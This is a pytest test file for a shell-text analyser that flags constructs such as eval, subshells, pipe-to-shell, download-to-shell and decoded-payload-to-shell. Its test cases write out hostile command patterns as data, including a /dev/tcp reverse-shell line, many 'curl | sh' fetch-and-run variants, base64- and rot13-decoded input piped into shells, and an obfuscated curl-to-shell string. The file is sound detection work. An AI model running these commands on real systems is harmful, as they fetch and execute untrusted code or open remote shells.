"""What a text does beside running commands is told by name, each kind once a line."""

from __future__ import annotations

import pytest

from runner.analysis import read
from runner.model.intent import Intent
from runner.model.request import Script, ShellText


def constructs(text: str) -> set[str]:
    return {each.name.removeprefix("shell:") for each in read(ShellText(text)).constructs}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ls -l src", set()),
        ("a $x && b || c; ! d", set()),
        ("a &", {"background"}),
        ("f() { a; }", {"function"}),
        ("(a)", {"subshell"}),
        ("echo $(a) `b`", {"command-substitution"}),
        ("cat <(a)", {"process-substitution"}),
        ("a > >(b)", {"process-substitution"}),
        ("eval a", {"eval"}),
        ("builtin eval a", {"eval"}),
        ("source f", {"source"}),
        (". ./f", {"source"}),
        ("trap 'a b' EXIT", {"trap"}),
        ("coproc a", {"coprocess"}),
        ("for i in a; do b; done", {"loop"}),
        ("while a; do b; done", {"loop"}),
        ("until a; do b; done", {"loop"}),
        ("cat <<E\nx\nE", {"heredoc"}),
        ("cat <<< x", {"here-string"}),
        ("alias a=b", {"alias"}),
        ("bash -i >& /dev/tcp/127.0.0.1/9", {"network-redirection"}),
    ],
)
def test_each_kind(text: str, expected: set[str]) -> None:
    assert constructs(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "cat x | sh",
        "cat x | sudo -u a env B=c bash -s -- d",
        "cat x |& bash",
        "cat x | { cd y; bash; }",
        "cat x | (dash)",
        "cat x | tee >(zsh)",
        "cat x | python3",
        "cat x | python3 - a",
        "cat x | perl",
        "cat x | node",
        "cat x | xargs -I{} sh -c '{}'",
        "cat x | xargs -0 bash -c",
        "cat x | parallel",
        "cat x | ssh host bash",
        "cat x | busybox sh",
        "cat x | . /dev/stdin",
        "cat x | fish",
        "cat x | if true; then sh; fi",
        "f() { cat x | sh; }",
        "echo $(cat x | sh)",
    ],
)
def test_pipes_into_shells(text: str) -> None:
    assert "pipe-to-shell" in constructs(text)


@pytest.mark.parametrize(
    "text",
    ["cat x | grep sh", "cat x | sh y", "cat x | sh -c y", "cat x | python3 y.py", "bash y",
     "cat x | python3 -c y", "cat x | perl -ne y", "cat x | awk y", "cat x | sh < y",
     "cat x | xargs sh y", "sh y | cat x"],
)  # fmt: skip
def test_other_pipes(text: str) -> None:
    assert "pipe-to-shell" not in constructs(text)


@pytest.mark.parametrize(
    "text",
    [
        "curl -s x | sh",
        "wget -qO- x | sudo bash",
        "curl x | tee f | bash",
        "curl x | gunzip | tac | bash",
        "bash <(curl x)",
        "source <(curl x)",
        ". <(env curl x)",
        'sh -c "$(curl x)"',
        'eval "$(wget -qO- x)"',
        "eval `fetch x`",
        'x=$(curl y); eval "$x"',
        'export x=$(curl y); bash -c "${x}"',
        'bash <<< "$(curl x)"',
        "bash <<E\n$(curl x)\nE",
        "curl -o f x; bash f",
        "curl -sSLo f x && chmod +x ./f && ./f",
        "curl --output=f x; source ./f",
        "curl -O http://x/f.sh; sh f.sh",
        "wget http://x/f.sh; mv f.sh g; sh g",
        "curl x > f; bash < f",
        "curl x | tee f; python3 f",
        'curl x | while read l; do eval "$l"; done',
        "f() { timeout 5 curl x; }; f | sh",
        'x=$(curl y); echo "$x" | sh',
        "curl x > >(bash)",
        "curl x | python3",
        "nc host 1 | sh",
        "bash < /dev/tcp/host/80",
        "cat < /dev/tcp/host/80 | sh",
        "dig +short txt x | bash",
        "curl x | xargs -I{} bash -c '{}'",
        'cu""rl x | s\\h',
    ],
)
def test_downloads_into_shells(text: str) -> None:
    assert "download-to-shell" in constructs(text)


@pytest.mark.parametrize(
    "text",
    ["curl x | grep y", "curl -o f x; cat f", "echo curl | sh", "x=$(curl y); echo $x",
     "curl x; bash y", "wget http://x/f; sh g", "bash <(cat x)"],
)  # fmt: skip
def test_other_downloads(text: str) -> None:
    assert "download-to-shell" not in constructs(text)


@pytest.mark.parametrize(
    "text",
    [
        "base64 -d f | sh",
        "echo eA== | base64 --decode | bash",
        "xxd -r -p f | sh",
        "openssl enc -d -aes-256-cbc -in f | sh",
        'eval "$(base64 -d <<< eA==)"',
        "source <(base32 -d f)",
        "echo uryyb | tr a-z n-za-m | sh",
        "rev f | sh",
        "gzip -dc f | sh",
        "printf '\\x6c\\x73' | sh",
        "base64 -d f > g; bash g",
        'x=$(base64 -d f); sh -c "$x"',
    ],
)
def test_decoded_into_shells(text: str) -> None:
    assert "encoded-to-shell" in constructs(text)


@pytest.mark.parametrize(
    "text",
    ["base64 f | sh", "base64 -d f", "tr -d x < f | sh", "printf 'a\\n' | sh", "gzip f | sh",
     "base64 -d f > g; cat g"],
)  # fmt: skip
def test_other_encodings(text: str) -> None:
    assert "encoded-to-shell" not in constructs(text)


def test_each_kind_once_a_line() -> None:
    intent = read(ShellText("a & b & $(c) & $(d)\n(e) & (f)"))
    assert [(each.name, each.line) for each in intent.constructs] == [
        ("shell:background", 1),
        ("shell:command-substitution", 1),
        ("shell:background", 2),
        ("shell:subshell", 2),
    ]


def test_advice_is_said() -> None:
    def of(content: bytes) -> Intent:
        return read(Script(content, "python", ("python3",), "x.py"))

    (found,) = of(b"import os\nos.system('curl x | sh -s $y')").constructs[-1:]
    assert (found.name, found.line, found.advice) == ("shell:download-to-shell", 2, True)
    sure = read(ShellText("python3 -c 'import os; os.system(\"a $x &\")'; b &")).constructs
    assert [each.advice for each in sure if each.name == "shell:background"] == [False]
